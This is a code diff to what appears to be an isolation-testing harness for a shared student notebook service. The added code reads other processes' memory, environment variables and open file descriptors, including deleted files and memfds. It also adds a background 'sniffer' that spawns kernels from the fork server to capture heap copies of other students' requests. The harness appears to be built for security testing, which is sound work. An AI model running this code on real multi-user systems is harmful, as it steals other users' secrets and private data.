@@ -45,6 +45,10 @@ def memory(pid):
         stats["mem_refused"][pid] = type(exc).__name__
         return
     try:
+        command = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")[:70].decode(errors="replace")
+    except OSError:
+        command = "?"
+    try:
         for line in maps:
             parts = line.split()
             name = parts[5] if len(parts) > 5 else "anon"
@@ -52,7 +56,7 @@ def memory(pid):
                 continue
             start, end = (int(x, 16) for x in parts[0].split("-"))
             read_at = lambda pos, size: os.pread(mem, size, pos)
-            stats["mem_bytes"] += stream(f"memory of pid {pid} ({name})", read_at, start, end)
+            stats["mem_bytes"] += stream(f"memory of pid {pid} {command} ({name})", read_at, start, end)
         stats["mem_pids"].append(pid)
     finally:
         os.close(mem)
@@ -69,13 +73,29 @@ def whole_file(path, where=None):
         os.close(fd)
     stats["file_bytes"] += size
     return True
+def open_files(pid):
+    # files her processes hold open, deleted ones and memfds (an environment passed by SCM_RIGHTS) too
+    try:
+        fds = os.listdir(f"/proc/{pid}/fd")
+    except OSError:
+        return
+    for fd in fds:
+        try:
+            target = os.readlink(f"/proc/{pid}/fd/{fd}")
+            regular = stat.S_ISREG(os.stat(f"/proc/{pid}/fd/{fd}").st_mode)
+        except OSError:
+            continue
+        if regular:
+            stats["open_files"] += whole_file(f"/proc/{pid}/fd/{fd}", f"fd {fd} of pid {pid} ({target})")
 pids = [p for p in os.listdir("/proc") if p.isdigit()]
+stats["pids_visible"], stats["open_files"] = len(pids), 0
 for pid in pids:
     memory(pid)
+    open_files(pid)
     for part in ("environ", "cmdline", "status", "comm", "io", "sched", "wchan"):
         stats["proc_files"] += whole_file(f"/proc/{pid}/{part}", f"/proc/{pid}/{part}")
-if WALK_FILES:
-    for top, dirs, names in os.walk("/", onerror=lambda e: None):
+for root in ("/", "/dev/shm", "/dev/mqueue") if WALK_FILES else ():
+    for top, dirs, names in os.walk(root, onerror=lambda e: None):
         if top == "/":
             dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
         for name in names:
@@ -280,6 +300,55 @@ for STEP[0], attack in (("nested list", lambda: ask(b"[" * 200000)),
     probe()
 report["outages"] = outages
 print(json.dumps(report))
+"""
+
+# a process A leaves running (it outlives her kernel and server): whenever another student's process appears (a
+# server or kernel just forked), it asks the fork server for a kernel of A's own at once, with a tiny request, and
+# keeps it: that kernel's memory is a copy of the fork server's heap right after the other student's request
+SNIFFER = r"""
+import json, os, sys, time
+import conjuring_forkclient
+stop, out, null = sys.argv[1], sys.argv[2], os.open(os.devnull, os.O_RDWR)
+sniffed, seen = [], set(os.listdir("/proc"))
+while not os.path.exists(stop):
+    now = set(os.listdir("/proc"))
+    for pid in sorted(p for p in now - seen if p.isdigit() and len(sniffed) < 8):
+        try:
+            uid = int(open(f"/proc/{pid}/status").read().split("Uid:")[1].split()[0])
+        except (OSError, IndexError):
+            continue
+        if uid not in (0, os.getuid()):
+            argv = [sys.executable, "-m", "ipykernel_launcher", "-f", f"/tmp/sniff-{os.getuid()}-{pid}.json"]
+            sniffed.append(conjuring_forkclient.spawn("kernel", argv, {"HOME": os.environ["HOME"]}, "/tmp",
+                                                      (null, null, null)))
+    seen = now
+    time.sleep(0.02)
+alive = sum(kernel.poll() is None for kernel in sniffed)
+for kernel in sniffed:
+    kernel.close()
+with open(out, "w") as file:
+    json.dump([len(sniffed), alive], file)
+"""
+
+SNIFF_CODE = r"""
+import os, subprocess, sys
+a_sniff = f"/tmp/a-sniff-{os.getuid()}"
+for _old in (a_sniff + ".stop", a_sniff + ".json"):
+    if os.path.exists(_old):
+        os.remove(_old)
+subprocess.Popen([sys.executable, "-c", SNIFFER, a_sniff + ".stop", a_sniff + ".json"], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=open(a_sniff + ".log", "w"))
+""".replace("SNIFFER", repr(SNIFFER))
+
+SNIFF_STOP_CODE = r"""
+import os, time
+a_sniff = f"/tmp/a-sniff-{os.getuid()}"
+open(a_sniff + ".stop", "w").close()
+for _ in range(100):
+    if os.path.exists(a_sniff + ".json"):
+        break
+    time.sleep(0.1)
+print(open(a_sniff + ".json").read() if os.path.exists(a_sniff + ".json") else open(a_sniff + ".log").read()[-500:])
 """
 
 SU_CODE = r"""
